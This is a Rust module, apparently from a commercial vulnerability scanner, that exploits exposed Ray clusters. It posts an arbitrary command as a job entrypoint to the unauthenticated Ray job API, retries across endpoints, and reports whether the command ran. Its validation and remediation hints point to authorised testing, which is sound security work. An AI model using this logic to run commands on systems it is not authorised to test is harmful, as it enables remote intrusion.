// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - Ray Job Submission
 * Submits an entrypoint command to the Ray job API, endpoint by endpoint,
 * with bounded retry per endpoint
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use crate::config::AppConfig;
use crate::errors::{ErrorCategory, HttpError, ScannerError, ScannerResult};
use crate::http_client::HttpTransport;
use crate::retry::{run_with_backoff, RetryPolicy};
use crate::scanners::TargetOperation;
use crate::types::{ExploitResult, JobSubmissionResponse, Target};
use crate::validation::InputValidator;
use async_trait::async_trait;
use serde_json::json;
use std::sync::Arc;
use tracing::{error, info, warn};

pub const MSG_SUBMISSION_FAILED: &str = "Failed to execute command on target";
pub const MSG_AUTH_REQUIRED: &str = "Authentication required - target is not exploitable";
pub const MSG_VALIDATION_FAILED: &str = "Input validation failed";
pub const MSG_NO_ENDPOINTS: &str = "All endpoints failed";

pub const HINT_TIMEOUT: &str = "Check the network path and firewall rules between scanner and target";
pub const HINT_DNS: &str = "Verify the hostname resolves from the scanner's network";
pub const HINT_NOT_FOUND: &str =
    "The Ray version or dashboard configuration may not expose the job API";
pub const HINT_AUTH_PRESENT: &str =
    "Job submission requires authentication; this is the desired configuration";

pub struct ExploitExecutor {
    transport: Arc<dyn HttpTransport>,
    candidate_paths: Vec<String>,
    success_statuses: Vec<u16>,
    validator: InputValidator,
}

impl ExploitExecutor {
    pub fn new(
        transport: Arc<dyn HttpTransport>,
        candidate_paths: Vec<String>,
        success_statuses: Vec<u16>,
    ) -> Self {
        Self {
            transport,
            candidate_paths,
            success_statuses,
            validator: InputValidator::default(),
        }
    }

    /// Candidate paths come from the probe section so both operations agree
    /// on endpoint order.
    pub fn from_config(transport: Arc<dyn HttpTransport>, config: &AppConfig) -> Self {
        Self {
            transport,
            candidate_paths: config.probe.candidate_paths.clone(),
            success_statuses: config.exploit.success_statuses.clone(),
            validator: InputValidator::new(config.exploit.destructive_patterns.iter().cloned()),
        }
    }

    /// Bind a command and retry policy, producing a [`TargetOperation`]
    pub fn with_command(&self, command: impl Into<String>, policy: RetryPolicy) -> BoundExploit<'_> {
        BoundExploit {
            executor: self,
            command: command.into(),
            policy,
        }
    }

    /// One submission attempt against one endpoint
    async fn submit(
        &self,
        url: &str,
        payload: &serde_json::Value,
    ) -> ScannerResult<JobSubmissionResponse> {
        let response = self.transport.post_json(url, payload).await?;

        if !self.success_statuses.contains(&response.status_code) {
            return Err(HttpError::UnexpectedStatus {
                status_code: response.status_code,
                url: url.to_string(),
            }
            .into());
        }

        match response.json::<JobSubmissionResponse>() {
            Ok(job) => Ok(job),
            Err(e) => {
                warn!(
                    endpoint = %url,
                    status = response.status_code,
                    error = %e,
                    "Job accepted but response body could not be parsed"
                );
                Ok(JobSubmissionResponse {
                    job_id: None,
                    submission_id: None,
                    status: None,
                })
            }
        }
    }

    /// Submit `command` to the first candidate endpoint that accepts it.
    ///
    /// Each candidate gets its own retry budget. A 401/403 ends the run
    /// immediately: the service enforces authentication and no other
    /// endpoint will behave differently.
    pub async fn execute(
        &self,
        target: &Target,
        command: &str,
        policy: &RetryPolicy,
    ) -> ExploitResult {
        let label = target.label();

        let verdict = self.validator.validate_target(target);
        if !verdict.valid {
            let reason = verdict.error.unwrap_or_default();
            warn!(target = %label, reason = %reason, "Exploit rejected by validation");
            return Self::rejected(target, reason);
        }

        if command.trim().is_empty() {
            warn!(target = %label, "Exploit rejected: empty command");
            return Self::rejected(target, "Invalid command: command cannot be empty".to_string());
        }

        let warning = self.validator.validate_command(command).warning;
        let payload = json!({ "entrypoint": command });
        let urls = target.candidate_urls(&self.candidate_paths);

        for (index, url) in urls.iter().enumerate() {
            let is_last = index + 1 == urls.len();
            let payload = &payload;

            info!(target = %label, endpoint = %url, "Submitting job");
            let outcome = run_with_backoff(policy, "ray-job-submission", move || {
                self.submit(url, payload)
            })
            .await;

            match outcome.result {
                Ok(job) => {
                    info!(
                        target = %label,
                        endpoint = %url,
                        job_id = ?job.job_id,
                        retries = outcome.retries,
                        "Job submitted"
                    );
                    return ExploitResult {
                        success: true,
                        message: format!(
                            "Command executed successfully. Job ID: {}, Submission ID: {}",
                            job.job_id.as_deref().unwrap_or("unknown"),
                            job.submission_id.as_deref().unwrap_or("unknown")
                        ),
                        job_id: job.job_id,
                        submission_id: job.submission_id,
                        status: job.status,
                        endpoint: url.clone(),
                        retry_attempts: outcome.retries,
                        error: None,
                        error_kind: None,
                        hint: None,
                        warning,
                    };
                }
                Err(err) if is_last || err.category() == ErrorCategory::AuthPresent => {
                    return Self::classify(target, url, err, outcome.retries, warning);
                }
                Err(err) => {
                    warn!(
                        target = %label,
                        endpoint = %url,
                        error = %err,
                        "Endpoint exhausted, falling back to next candidate"
                    );
                }
            }
        }

        ExploitResult {
            success: false,
            job_id: None,
            submission_id: None,
            status: None,
            endpoint: target.base_url(),
            retry_attempts: 0,
            message: MSG_NO_ENDPOINTS.to_string(),
            error: Some("No valid endpoint found".to_string()),
            error_kind: Some(ErrorCategory::UnknownError),
            hint: None,
            warning,
        }
    }

    fn rejected(target: &Target, reason: String) -> ExploitResult {
        ExploitResult {
            success: false,
            job_id: None,
            submission_id: None,
            status: None,
            endpoint: target.base_url(),
            retry_attempts: 0,
            message: MSG_VALIDATION_FAILED.to_string(),
            error: Some(reason),
            error_kind: Some(ErrorCategory::ValidationError),
            hint: None,
            warning: None,
        }
    }

    /// Terminal failure: attach the category and a remediation hint
    fn classify(
        target: &Target,
        url: &str,
        err: ScannerError,
        retries: u32,
        warning: Option<String>,
    ) -> ExploitResult {
        let kind = err.category();

        let hint = if err.is_connection_refused() {
            Some(format!(
                "Verify the Ray service is running and port {} is reachable",
                target.port
            ))
        } else if err.is_timeout() {
            Some(HINT_TIMEOUT.to_string())
        } else if err.is_dns_failure() {
            Some(HINT_DNS.to_string())
        } else {
            match kind {
                ErrorCategory::ProtocolError => Some(HINT_NOT_FOUND.to_string()),
                ErrorCategory::AuthPresent => Some(HINT_AUTH_PRESENT.to_string()),
                _ => None,
            }
        };

        let message = if kind == ErrorCategory::AuthPresent {
            info!(target = %target.label(), endpoint = %url, "Target enforces authentication");
            MSG_AUTH_REQUIRED
        } else {
            error!(
                target = %target.label(),
                endpoint = %url,
                kind = %kind,
                error = %err,
                "Job submission failed"
            );
            MSG_SUBMISSION_FAILED
        };

        ExploitResult {
            success: false,
            job_id: None,
            submission_id: None,
            status: None,
            endpoint: url.to_string(),
            retry_attempts: retries,
            message: message.to_string(),
            error: Some(err.to_string()),
            error_kind: Some(kind),
            hint,
            warning,
        }
    }
}

/// [`ExploitExecutor`] with its command and retry policy fixed
pub struct BoundExploit<'a> {
    executor: &'a ExploitExecutor,
    command: String,
    policy: RetryPolicy,
}

#[async_trait]
impl<'a> TargetOperation for BoundExploit<'a> {
    type Output = ExploitResult;

    fn name(&self) -> &'static str {
        "execute-ray-job"
    }

    async fn run(&self, target: &Target) -> Self::Output {
        self.executor
            .execute(target, &self.command, &self.policy)
            .await
    }
}
